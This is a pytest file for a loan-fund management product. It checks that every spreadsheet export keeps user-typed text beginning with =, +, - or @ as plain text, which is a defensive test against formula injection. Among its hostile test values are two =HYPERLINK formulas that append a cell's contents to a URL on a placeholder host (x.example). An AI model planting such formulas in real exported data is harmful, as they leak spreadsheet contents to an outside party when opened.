"""Every spreadsheet the product hands out keeps typed text as text (issue 23, CSV injection).

A programme whose townships, households, villages, projects, liaisons,
memos, disaster, proposal and reopening reasons, and uploaded book lines
were typed starting with ``=``, ``+``, ``-`` or ``@`` is exported through
every API export, both reconciliations and every list of the web pages;
each file holds its hostile texts exactly as typed and no formula. (Tab and
CR cannot start a stored text: input is stripped and control characters are
refused; tests/sheets/test_no_formulas.py writes them directly.)
"""

from __future__ import annotations

import pytest

from tests.api.conftest import PASSWORD
from tests.api.programme import TOWN_A, County, household, lend, new_fund
from tests.api.test_reconciliations import BOOK, post
from tests.sheets.files import table_xlsx
from tests.sheets.test_no_formulas import formulas, texts
from tests.web.conftest import Browser

TOWN_A_NAME = '=A1&"镇"'
LIAISON = '=HYPERLINK("http://x.example/?x="&C2,"联系人")'
HOUSEHOLD, VILLAGE, PROJECT = "-2+3", "@SUM(1)村", "=1+1 鱼塘"
MEMO = '=HYPERLINK("http://x.example/?x="&C2,"上缴明细")'
DISASTER, WRITE_OFF, EXTENSION, REOPEN = "-7·8灾", "=1+1 冲毁", "@延期", "-反结账"
IOU, REFERENCE, DOCUMENT = "@借据", "=1+1", "+县财〔2008〕12号"


@pytest.fixture(scope="module")
def hostile(county: County) -> str:
    """A fund whose every typed text is hostile; returns its code."""
    code, f = new_fund(county, "X")
    county.create("clerk", f"{f}/townships", {"code": TOWN_A, "name": TOWN_A_NAME})
    county.create(
        "clerk", f"{f}/project-types", {"code": "fish", "name": "鱼", "borrowing_standard": "5000"}
    )
    county.create("clerk", f"{f}/batches", {"code": "1", "name": "一", "budget": "100000.00"})
    liaison = county.create(
        "clerk",
        f"{f}/liaisons",
        {"name": LIAISON, "township": TOWN_A, "monthly_salary": "2000.00", "phone": "13800000000"},
    )["id"]
    county.create(
        "clerk",
        f"{f}/appropriations",
        {"date": "2007-03-01", "amount": "100000.00", "source": "county", "memo": MEMO},
    )
    county.create(
        "clerk",
        f"{f}/allocations",
        {"date": "2007-04-01", "township": TOWN_A, "amount": "20000.00", "batch": "1"},
    )
    county.create(
        "township_a",
        f"{f}/remittances",
        {"date": "2007-05-01", "township": TOWN_A, "amount": "100.00", "memo": MEMO},
    )
    person = household(county, f, TOWN_A, HOUSEHOLD, village=VILLAGE)
    loan = lend(
        county,
        f,
        household_id=person,
        liaison=liaison,
        amount="5000.00",
        schedule=[("2008-04-01", "5000.00")],
    )
    county.create(
        "clerk",
        f"{f}/loans",
        {
            "household": household(county, f, TOWN_A, HOUSEHOLD, village=VILLAGE),
            "batch": "1",
            "project_type": "fish",
            "project": PROJECT,
            "requested_amount": "1000.00",
            "date": "2007-04-02",
        },
    )
    county.create(
        "clerk",
        f"{f}/disasters",
        {
            "code": "0708",
            "name": DISASTER,
            "date": "2008-07-08",
            "kind": "hail",
            "townships": [TOWN_A],
        },
    )
    county.create(
        "clerk",
        f"{f}/disasters/0708/losses",
        {"loan": loan, "assessed_loss": "3000.00", "inspector": "县农业局 王"},
    )
    decided, _pending = (
        county.create(
            "clerk",
            f"{f}/write-offs",
            {
                "loan": loan,
                "amount": amount,
                "ground": "disaster",
                "disaster": "0708",
                "reason": WRITE_OFF,
                "date": "2008-07-20",
            },
        )["id"]
        for amount in ("1000.00", "500.00")
    )
    county.post(
        "approver",
        f"{f}/write-offs/{decided}/decision",
        {"approve": True, "note": "同意", "document_no": DOCUMENT, "date": "2008-07-25"},
    )
    county.create(
        "clerk",
        f"{f}/extensions",
        {
            "loan": loan,
            "schedule": [{"due_date": "2010-01-01", "amount": "4000.00"}],
            "reason": EXTENSION,
            "date": "2008-07-21",
        },
    )
    county.post("clerk", f"{f}/periods/2007-03/close", None)
    county.post("approver", f"{f}/periods/2007-03/reopen", {"reason": REOPEN})
    return code


def api_files(county: County, code: str) -> dict[str, bytes]:
    f = f"/api/v1/funds/{code}"
    files = {
        name: county.get("clerk", f"{f}/exports/{name}", **query).get_data()
        for name, query in (
            ("loans.xlsx", {}),
            ("journals.xlsx", {}),
            ("trial-balance.xlsx", {}),
            ("aging.xlsx", {"as_of": "2008-12-31"}),
            ("recovery-table.xlsx", {"year": "2007"}),
            ("plan-against-actual.xlsx", {"year": "2007"}),
        )
    }
    book = table_xlsx(BOOK, [["2007-04-01", IOU, "拨入", "20000.00"]], typed=True)
    township = post(
        county,
        "clerk",
        f"{f}/reconciliations/townships/{TOWN_A}?format=xlsx",
        book,
        to="2007-12-31",
    )
    statement = table_xlsx(
        ["日期", "金额", "方向", "摘要", "余额"],
        [["2007-03-01", "100000.00", "收", REFERENCE, "100000.00"]],
        typed=True,
    )
    bank = post(county, "clerk", f"{f}/reconciliations/bank?format=xlsx", statement)
    for response in (township, bank):
        assert response.status_code == 200, response.get_data(as_text=True)
    files["township reconciliation"] = township.get_data()
    files["bank reconciliation"] = bank.get_data()
    return files


def web_files(api_app, county: County, code: str) -> dict[str, bytes]:
    clerk = Browser(api_app, code)
    assert clerk.login(county.name("clerk"), PASSWORD).status_code == 303
    paths = (
        "loans.xlsx",
        "liaisons.xlsx",
        "disasters.xlsx",
        "proposals.xlsx",
        "periods.xlsx",
        "disasters/0708/write-offs.xlsx",
    )
    files = {}
    for path in paths:
        response = clerk.get(clerk.f(path))
        assert response.status_code == 200, path
        files[f"web {path}"] = response.get_data()
    return files


#: What each file must show as typed.
EXPECTED = {
    "loans.xlsx": {TOWN_A_NAME, VILLAGE, HOUSEHOLD, PROJECT},
    "journals.xlsx": {MEMO},
    "trial-balance.xlsx": set(),  # account names only: ours
    "aging.xlsx": {TOWN_A_NAME, HOUSEHOLD},
    "recovery-table.xlsx": {TOWN_A_NAME},
    "plan-against-actual.xlsx": {TOWN_A_NAME},
    "township reconciliation": {IOU},
    "bank reconciliation": {REFERENCE},
    "web loans.xlsx": {TOWN_A_NAME, VILLAGE, HOUSEHOLD, PROJECT},
    "web liaisons.xlsx": {LIAISON},  # the township by code
    "web disasters.xlsx": {DISASTER},
    "web proposals.xlsx": {WRITE_OFF, EXTENSION},
    "web periods.xlsx": {REOPEN},
    "web disasters/0708/write-offs.xlsx": {DOCUMENT},
}


def test_no_export_holds_a_formula(county: County, api_app, hostile: str):
    files = api_files(county, hostile) | web_files(api_app, county, hostile)
    assert set(files) == set(EXPECTED)
    for name, data in files.items():
        assert formulas(data) == [], name
        assert EXPECTED[name] <= set(texts(data)), name
